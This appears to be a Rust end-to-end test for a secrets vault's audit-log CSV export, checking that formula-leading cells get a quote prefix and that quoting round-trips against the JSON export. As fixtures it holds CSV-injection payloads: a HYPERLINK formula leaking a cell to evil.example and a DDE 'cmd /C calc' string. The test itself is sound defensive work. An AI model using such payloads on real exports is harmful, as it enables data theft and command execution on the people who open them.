//! The CSV audit export is safe to open in a spreadsheet (issue 15, review item 7): a cell
//! that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, and
//! commas, quotes and line breaks are quoted so that a real CSV parser reads back exactly
//! the events of the JSON export.

use keyhold_core::api::AuditEvent;
use keyhold_e2e::TestServer;
use keyhold_vault::audit::{ClientInfo, NewEvent};
use keyhold_vault::clock::Clock;

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";

/// What the export must show for `cell`: the OWASP rule for CSV injection.
fn neutralised(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

/// The CSV columns of `e`, as the JSON export has them.
fn columns(e: &AuditEvent) -> Vec<String> {
    vec![
        e.id.to_string(),
        e.at.to_rfc3339_opts(chrono::SecondsFormat::Micros, true),
        e.actor.kind.clone(),
        e.actor.id.clone().unwrap_or_default(),
        e.action.clone(),
        e.target.clone().unwrap_or_default(),
        e.outcome.clone(),
        e.ip.clone().unwrap_or_default(),
        e.user_agent.clone().unwrap_or_default(),
        e.detail.to_string(),
        e.severity.as_str().to_owned(),
    ]
}

#[tokio::test]
async fn the_csv_export_neutralises_formulas_and_quotes_what_it_must() {
    let ts = TestServer::start().await;
    let owner = ts.person("csv").await;
    // A user-controlled field through the API: the user agent of an audited request.
    let r = reqwest::Client::new()
        .post(format!("{}/v1/keys", ts.url()))
        .bearer_auth(owner.client.token().unwrap())
        .header("user-agent", FORMULA)
        .json(&serde_json::json!({
            "name": "+SUM(1,2), \"quoted\"",
            "scopes": ["secrets:read:prod/*"],
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    // Fields no API request can shape (line breaks, a leading tab or carriage return),
    // written straight to the server's log.
    let tricky = [
        ("-2+3", "@SUM(A1:A9)"),
        ("\tcmd", "line one\r\nline two, \"two\""),
        ("\r=1+1", "plain"),
    ];
    for (target, user_agent) in tricky {
        let client = ClientInfo {
            ip: Some("203.0.113.5".to_owned()),
            user_agent: Some(user_agent.to_owned()),
        };
        let ev = NewEvent::new("secret.read", ts.clock.now(), &client)
            .user(&owner.tenant_id, &owner.user_id)
            .target(target)
            .detail("reason", "=cmd|' /C calc'!A0");
        ts.server.state.store.append_event(ev).await.unwrap();
    }

    let json = owner.client.audit_export("json").await.unwrap();
    let events: Vec<AuditEvent> = json
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let csv_text = owner.client.audit_export("csv").await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv_text.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "id",
            "at",
            "actor_type",
            "actor_id",
            "action",
            "target",
            "outcome",
            "ip",
            "user_agent",
            "detail",
            "severity"
        ]
    );
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(rows.len(), events.len(), "{csv_text}");
    for (row, e) in rows.iter().zip(&events) {
        let expected: Vec<String> = columns(e).iter().map(|c| neutralised(c)).collect();
        assert_eq!(row, &expected);
    }

    // The cells a spreadsheet would have run, as it now reads them.
    let created = rows.iter().find(|r| r[4] == "key.created").unwrap();
    assert_eq!(created[8], format!("'{FORMULA}"));
    assert!(
        created[9].contains("+SUM(1,2), \\\"quoted\\\""),
        "{}",
        created[9]
    );
    let targets: Vec<&str> = rows.iter().map(|r| r[5].as_str()).collect();
    for want in ["'-2+3", "'\tcmd", "'\r=1+1"] {
        assert!(targets.contains(&want), "{want:?} in {targets:?}");
    }
    let agents: Vec<&str> = rows.iter().map(|r| r[8].as_str()).collect();
    assert!(agents.contains(&"'@SUM(A1:A9)"));
    assert!(agents.contains(&"line one\r\nline two, \"two\""));
    ts.stop().await;
}
